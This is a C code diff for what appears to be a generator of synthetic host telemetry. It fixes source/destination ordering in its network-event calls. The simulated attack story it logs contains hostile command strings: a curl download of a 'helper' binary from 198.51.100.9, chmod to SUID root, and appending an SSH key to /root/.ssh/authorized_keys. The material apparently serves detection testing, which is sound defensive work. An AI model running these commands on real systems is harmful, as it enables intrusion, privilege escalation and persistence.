@@ -137,6 +137,8 @@ static void exit_of(struct gen *g, const struct proc *p, int64_t t, int code)
     event_add_int(e, FLD_EXIT_SIGNAL, 0);
 }
 
+/* src/sport: the side that opened the connection; dst/dport: the side that answered (for an
+ * accept, src is the remote client and dst our listening address). */
 static void net(struct gen *g, const struct proc *p, const char *action, const char *src,
                 int sport, const char *dst, int dport, int64_t t)
 {
@@ -227,7 +229,7 @@ static void ordinary(struct gen *g, struct host *h, int64_t t)
         /* web clients */
         snprintf(ip, sizeof(ip), "198.18.%u.%u", (unsigned)(rnd(g) % 250),
                  (unsigned)(rnd(g) % 250) + 1);
-        net(g, &h->worker, "accept", g->ip, 443, ip, 1024 + (int)(rnd(g) % 60000), t);
+        net(g, &h->worker, "accept", ip, 1024 + (int)(rnd(g) % 60000), g->ip, 443, t);
         file(g, &h->worker, "open_write", "/var/log/nginx/access.log", 0, t + 100000);
     } else {
         /* files */
@@ -259,7 +261,7 @@ static void story(struct gen *g, struct host *h, struct gen *g2, struct host *h2
     char dir[64], path[96], cmd[256];
     snprintf(dir, sizeof(dir), "/tmp/.cache.%d", n);
     snprintf(path, sizeof(path), "%s/helper", dir);
-    net(g, &h->worker, "accept", g->ip, 443, "203.0.113.66", 40100 + n, t);
+    net(g, &h->worker, "accept", "203.0.113.66", 40100 + n, g->ip, 443, t);
     snprintf(cmd, sizeof(cmd), "/bin/sh -c curl -s -o %s http://198.51.100.9/helper; chmod +x %s",
              path, path);
     spawn(g, &h->worker, &s1, "/usr/bin/dash", cmd, 33, 33, t + 1000000);
@@ -271,7 +273,7 @@ static void story(struct gen *g, struct host *h, struct gen *g2, struct host *h2
     file(g, &s1, "chmod", path, 04755, t + 6000000);
     exit_of(g, &s1, t + 7000000, 0);
     /* second request: run the tool, now SUID root */
-    net(g, &h->worker, "accept", g->ip, 443, "203.0.113.66", 40200 + n, t + 60000000000ll);
+    net(g, &h->worker, "accept", "203.0.113.66", 40200 + n, g->ip, 443, t + 60000000000ll);
     snprintf(cmd, sizeof(cmd), "/bin/sh -c %s -p", path);
     spawn(g, &h->worker, &s2, "/usr/bin/dash", cmd, 33, 33, t + 60001000000ll);
     snprintf(cmd, sizeof(cmd), "%s -p -c persist", path);
@@ -282,7 +284,7 @@ static void story(struct gen *g, struct host *h, struct gen *g2, struct host *h2
     printf("story %d host %s tool %s\n", n, g->hostname, tool.entity);
     /* on the next host: sshd accepts that connection, a shell adds a key */
     struct proc sess, sh;
-    net(g2, &h2->sshd, "accept", g2->ip, 22, g->ip, 53000 + n, t + 60005100000ll);
+    net(g2, &h2->sshd, "accept", g->ip, 53000 + n, g2->ip, 22, t + 60005100000ll);
     spawn(g2, &h2->sshd, &sess, "/usr/sbin/sshd", "sshd: root@notty", 0, 0, t + 60006000000ll);
     spawn(g2, &sess, &sh, "/usr/bin/bash", "bash -c echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys",
           0, 0, t + 60007000000ll);
